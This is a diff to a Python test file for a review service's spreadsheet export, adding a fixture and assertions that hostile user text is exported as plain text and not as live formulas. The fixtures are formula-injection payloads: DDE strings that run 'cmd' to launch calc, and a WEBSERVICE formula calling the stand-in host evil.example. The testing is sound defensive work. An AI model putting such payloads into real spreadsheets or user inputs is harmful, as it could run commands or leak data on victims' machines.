@@ -923,6 +923,7 @@ HOSTILE = {
     "sun": "+cmd|' /C calc'!A0",
 }
 HOSTILE_MEASURE = '=WEBSERVICE("http://evil.example/")'
+HOSTILE_DEEDS = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 def _hostile_quarter() -> rf.ReviewService:
@@ -939,6 +940,7 @@ def _hostile_quarter() -> rf.ReviewService:
         "sun", review.id, requirement_id=requirement.id, measure=HOSTILE_MEASURE,
         owner=HOSTILE["sun"], due=date(2024, 1, 15),
     )  # fmt: skip
+    service.record_exemplar(OFFICE, kind="member", subject_id="wu", deeds=HOSTILE_DEEDS)
     return service
 
 
@@ -968,6 +970,8 @@ def test_r_input_no_exported_workbook_carries_a_formula_from_user_text(tmp_path:
     ledger = openpyxl.load_workbook(books[1])
     ledger_texts = {c.value for s in ledger.worksheets for r in s.iter_rows() for c in r}
     assert {HOSTILE_MEASURE, HOSTILE["sun"]} <= ledger_texts
+    summary = openpyxl.load_workbook(books[2])
+    assert HOSTILE_DEEDS in {c.value for s in summary.worksheets for r in s.iter_rows() for c in r}
 
 
 def test_r_input_a_control_character_stored_before_the_limits_does_not_stop_an_export(
